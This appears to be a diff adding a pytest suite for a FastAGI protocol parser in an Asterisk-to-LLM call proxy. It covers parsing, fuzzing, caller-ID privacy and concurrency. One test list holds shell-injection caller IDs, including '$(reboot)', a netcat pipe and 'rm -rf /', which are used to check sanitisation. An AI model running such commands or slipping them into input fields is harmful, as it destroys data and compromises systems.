@@ -1,0 +1,214 @@
+"""capture/agi.py: the FastAGI parser on the captured bytes, and real sessions over TCP."""
+
+from __future__ import annotations
+
+import asyncio
+import re
+import uuid as uuidlib
+from pathlib import Path
+
+import orjson
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from avr_llm_proxy.capture.agi import AgiEnvironment, AgiHangup, AgiParser, AgiProtocolError, AgiReply
+from avr_llm_proxy.simulate import play_call
+
+from ..conftest import FIXTURES, closed_port, make_settings, running_api, running_proxy
+
+LOCAL = (FIXTURES / "agi-env-local.txt").read_bytes()
+PJSIP = (FIXTURES / "agi-env-pjsip.txt").read_bytes()
+FIXTURE_UUID = "858675a8-e2f7-4c71-ad18-2c76b7927da2"
+UUID4 = re.compile(r"^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$")
+
+
+def environment(data: bytes) -> AgiEnvironment:
+    events = AgiParser().feed(data)
+    assert len(events) == 1 and isinstance(events[0], AgiEnvironment)
+    return events[0]
+
+
+def test_fixture_environment_parses() -> None:
+    """The real Asterisk 22 block gives every agi_* key, empty values kept empty."""
+    env = environment(PJSIP)
+    assert env.values["agi_callerid"] == "+593987654321" and env.values["agi_calleridname"] == "Juan Perez"
+    assert env.values["agi_dnid"] == "5551000" and env.values["agi_accountcode"] == ""
+    assert env.get("agi_rdnis") == "" and env.values["agi_rdnis"] == "unknown"
+    assert env.script == "test"
+
+
+def test_crlf_and_byte_by_byte() -> None:
+    """CRLF line ends and one byte at a time give the same environment."""
+    parser = AgiParser()
+    events = [event for byte in LOCAL.replace(b"\n", b"\r\n") for event in parser.feed(bytes([byte]))]
+    assert events == [environment(LOCAL)]
+
+
+@given(st.integers(min_value=0, max_value=len(LOCAL)))
+def test_split_anywhere(offset: int) -> None:
+    """Split at any offset, the parser yields exactly one identical environment."""
+    parser = AgiParser()
+    events = parser.feed(LOCAL[:offset]) + parser.feed(LOCAL[offset:])
+    assert events == [environment(LOCAL)]
+
+
+def test_replies_and_hangup() -> None:
+    """Reply lines and HANGUP after the environment become events."""
+    parser = AgiParser()
+    parser.feed(LOCAL)
+    events = parser.feed(b"200 result=1 (prohib)\n510 Invalid or unknown command\nHANGUP\n200 result=0\n")
+    assert events == [
+        AgiReply(200, 1, "prohib", "200 result=1 (prohib)"),
+        AgiReply(510, None, None, "510 Invalid or unknown command"),
+        AgiHangup(),
+        AgiReply(200, 0, None, "200 result=0"),
+    ]
+
+
+def test_limits() -> None:
+    """An over-long line or an endless environment is refused, not buffered."""
+    with pytest.raises(AgiProtocolError):
+        AgiParser().feed(b"agi_callerid: " + b"9" * 10_000)
+    with pytest.raises(AgiProtocolError):
+        AgiParser().feed(b"".join(b"agi_x%d: 1\n" % index for index in range(300)))
+
+
+@given(st.binary(max_size=3000))
+def test_garbage_never_crashes(data: bytes) -> None:
+    """Any bytes give events or a protocol error, nothing else."""
+    try:
+        AgiParser().feed(data)
+    except AgiProtocolError:
+        pass
+
+
+async def agi_session(port: int, env: bytes, num_pres: str = "allowed_not_screened") -> list[str]:
+    """A fake Asterisk: send the environment, answer each command the way Asterisk 22 does."""
+    reader, writer = await asyncio.open_connection("127.0.0.1", port)
+    writer.write(env)
+    commands = []
+    try:
+        while line := await asyncio.wait_for(reader.readline(), 5):
+            command = line.decode().rstrip("\n")
+            commands.append(command)
+            if command.startswith("GET FULL VARIABLE"):
+                writer.write(f"200 result=1 ({num_pres})\n".encode())
+            else:
+                writer.write(b"200 result=1\n")
+    finally:
+        writer.close()
+    return commands
+
+
+def with_script(env: bytes, script: str = "callerid", arg: str | None = None) -> bytes:
+    env = env.replace(b"agi_network_script: test", f"agi_network_script: {script}".encode())
+    if arg is None:
+        return env.replace(b"agi_arg_1: " + FIXTURE_UUID.encode() + b"\n", b"")
+    return env.replace(FIXTURE_UUID.encode(), arg.encode())
+
+
+@pytest.mark.parametrize("fixture", ["local", "pjsip"])
+async def test_session_records_caller_and_sets_uuid(tmp_path: Path, fixture: str) -> None:
+    """The dialplan gets SET VARIABLE UUID, the record holds the caller, and turns carry the number."""
+    port = closed_port()
+    async with running_api() as api:
+        settings = make_settings(tmp_path, api_url=api.url, agi_listen=f"127.0.0.1:{port}", caller_wait_ms=0)
+        async with running_proxy(settings) as proxy:
+            env = with_script(LOCAL if fixture == "local" else PJSIP)
+            commands = await agi_session(port, env)
+            assert commands[0] == "GET FULL VARIABLE ${CALLERID(num-pres)}"
+            match = re.fullmatch(r'SET VARIABLE UUID "(.+)"', commands[1])
+            assert match and UUID4.match(match.group(1)) and len(commands) == 2
+            call = match.group(1)
+            turns = await play_call(proxy.url, call, ["hola", "mi pedido"])
+    assert all(turn.problems == [] for turn in turns)
+    for payload in api.received:
+        assert payload["caller_number"] == "+593987654321" and payload["caller_name"] == "Juan Perez"
+        assert payload["caller"]["source"] == "agi" and payload["caller"]["presentation"] == "allowed"
+        assert payload["called_number"] == ("5551000" if fixture == "pjsip" else None)
+
+
+async def test_given_uuid_is_kept(tmp_path: Path) -> None:
+    """A UUID passed as the first AGI argument is used instead of a new one."""
+    port, call = closed_port(), str(uuidlib.uuid4())
+    async with running_proxy(make_settings(tmp_path, agi_listen=f"127.0.0.1:{port}")) as proxy:
+        commands = await agi_session(port, with_script(PJSIP, arg=call.upper()))
+        assert commands[-1] == f'SET VARIABLE UUID "{call}"'
+        reply = await play_call(proxy.url, call, ["hola"])
+    assert "Juan" in reply[0].sentences[0]
+
+
+@pytest.mark.parametrize(("num_pres", "callingpres", "expected"),
+                         [("prohib", "0", "anonymous"), ("allowed_not_screened", "35", "anonymous"),
+                          ("allowed_not_screened", "67", "unknown")])
+async def test_presentation_is_honoured(tmp_path: Path, num_pres: str, callingpres: str, expected: str) -> None:
+    """num-pres prohib (no agi_callingpres change) or a restricting code withholds the number Asterisk still has."""
+    port, call = closed_port(), str(uuidlib.uuid4())
+    env = with_script(PJSIP, arg=call).replace(b"agi_callingpres: 0", f"agi_callingpres: {callingpres}".encode())
+    async with running_api() as api:
+        settings = make_settings(tmp_path, api_url=api.url, agi_listen=f"127.0.0.1:{port}")
+        async with running_proxy(settings) as proxy:
+            await agi_session(port, env, num_pres)
+            await play_call(proxy.url, call, ["hola"])
+    payload = api.received[0]
+    assert payload["caller_number"] == expected and payload["caller"]["raw"] is None
+    assert "593987654321" not in orjson.dumps(payload).decode()
+
+
+async def test_unknown_script_and_bad_clients_end_cleanly(tmp_path: Path) -> None:
+    """Unknown script, silence, a line without newline, garbage, over-long line: closed, server keeps serving."""
+    port = closed_port()
+    settings = make_settings(tmp_path, agi_listen=f"127.0.0.1:{port}")
+    async with running_proxy(settings):
+        assert await agi_session(port, with_script(PJSIP, script="other")) == []
+        for payload in (b"", b"agi_network: yes", b"\xff\xfe garbage\n\n", b"agi_callerid: " + b"1" * 9000):
+            reader, writer = await asyncio.open_connection("127.0.0.1", port)
+            writer.write(payload)
+            if payload:
+                writer.write_eof()
+            assert await asyncio.wait_for(reader.read(), 10) == b""
+            writer.close()
+        commands = await agi_session(port, with_script(PJSIP))
+        assert commands[-1].startswith("SET VARIABLE UUID")
+
+
+HOSTILE = [b"$(reboot); `id` | nc x 1", b"+593987654321;rm -rf /", "Jos\u00e9 \u00f1".encode("latin-1"),
+           b"\xff\xfe\xfd", b"9" * 4096]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+async def test_hostile_caller_ids(tmp_path: Path, value: bytes) -> None:
+    """Shell code, non-UTF-8 and 4 KB values in the caller ID are recorded sanitised; nothing breaks."""
+    port, call = closed_port(), str(uuidlib.uuid4())
+    env = with_script(PJSIP, arg=call).replace(b"agi_callerid: +593987654321", b"agi_callerid: " + value)
+    env = env.replace(b"agi_calleridname: Juan Perez", b"agi_calleridname: " + value)
+    async with running_api() as api:
+        async with running_proxy(make_settings(tmp_path, api_url=api.url, agi_listen=f"127.0.0.1:{port}")) as proxy:
+            commands = await agi_session(port, env)
+            assert commands[-1] == f'SET VARIABLE UUID "{call}"'
+            turns = await play_call(proxy.url, call, ["hola"])
+    assert turns[0].problems == []
+    sent = api.received[0]
+    assert len(sent["caller_number"]) <= 32 and not set(sent["caller_number"]) & set("$`;|() ")
+    assert sent["caller_name"] is None or len(sent["caller_name"]) <= 64
+
+
+async def test_500_concurrent_sessions(tmp_path: Path) -> None:
+    """500 sessions at once with distinct callers: every UUID maps to its own caller."""
+    port = closed_port()
+    async with running_api() as api:
+        settings = make_settings(tmp_path, api_url=api.url, agi_listen=f"127.0.0.1:{port}", caller_wait_ms=0)
+        async with running_proxy(settings) as proxy:
+            numbers = [f"+59398{index:07d}" for index in range(500)]
+
+            async def one(number: str) -> tuple[str, str]:
+                env = with_script(PJSIP).replace(b"+593987654321", number.encode())
+                commands = await agi_session(port, env)
+                return number, commands[-1].split('"')[1]
+
+            pairs = await asyncio.gather(*(one(number) for number in numbers))
+            assert len({call for _, call in pairs}) == 500
+            await asyncio.gather(*(play_call(proxy.url, call, ["hola"]) for _, call in pairs))
+    by_call = {payload["conversation_id"]: payload["caller_number"] for payload in api.received}
+    assert all(by_call[call] == number for number, call in pairs)
